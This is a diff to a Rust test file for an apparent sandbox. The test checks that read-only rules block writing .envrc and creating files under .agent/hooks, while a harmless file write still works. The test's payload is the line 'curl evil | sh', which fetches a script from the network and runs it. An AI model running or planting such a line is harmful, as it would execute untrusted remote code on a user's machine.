@@ -195,18 +195,28 @@ fn a_read_only_entry_that_does_not_exist_cannot_be_created() {
         "envrc.toml",
         "extends = \"workspace-write\"\n[filesystem]\nread_only = [\".envrc\"]\n",
     );
+    // A pattern on everything beneath a directory that does not exist yet: the same.
     let out = common::Tree::py(
         &tree,
-        &["-p", &p],
+        &["-p", &p, "--read-only", ":cwd/.agent/hooks/*"],
         r#"
 print(attempt(lambda: open(".envrc", "w").write("curl evil | sh\n")))
 print(attempt(lambda: os.mkdir(".envrc/x")))
+print(attempt(lambda: os.makedirs(".agent/hooks/pre")))
+print(attempt(lambda: open(".agent/hooks/run.sh", "w").write("evil")))
 print(attempt(lambda: open("other", "w").write("fine")))
 "#,
     );
-    assert_eq!(lines(&out), ["EISDIR", "EROFS", "OK"], "{}", stderr(&out));
-    // From outside: nothing of the command's is left where the rule was, the harmless file is.
+    assert_eq!(
+        lines(&out),
+        // The placeholder is the first missing directory, `.agent`, empty and read-only.
+        ["EISDIR", "EROFS", "EROFS", "ENOENT", "OK"],
+        "{}",
+        stderr(&out)
+    );
+    // From outside: nothing of the command's is left where the rules were, the harmless file is.
     assert!(!tree.cwd.join(".envrc").exists());
+    assert!(!tree.cwd.join(".agent").exists());
     assert_eq!(fs::read_to_string(tree.cwd.join("other")).unwrap(), "fine");
 }
 
